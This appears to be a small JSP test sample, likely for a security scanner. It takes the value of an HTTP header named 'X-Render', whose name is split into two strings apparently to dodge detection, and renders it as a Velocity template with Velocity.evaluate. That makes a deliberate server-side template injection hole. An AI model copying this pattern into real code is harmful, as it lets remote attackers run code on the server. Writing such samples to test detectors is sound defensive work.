<%@ page import="org.apache.velocity.app.Velocity,org.apache.velocity.VelocityContext" %>
<%
    // test sample: the static Velocity facade, the template from a header whose name is glued
    Velocity.init();
    java.io.StringWriter sw = new java.io.StringWriter();
    String h = "X-" + "Render";
    String body = request.getHeader(h);
    if (body != null) {
        Velocity.evaluate(new VelocityContext(), sw, "log", body);
    }
    out.print(sw.toString());
%>
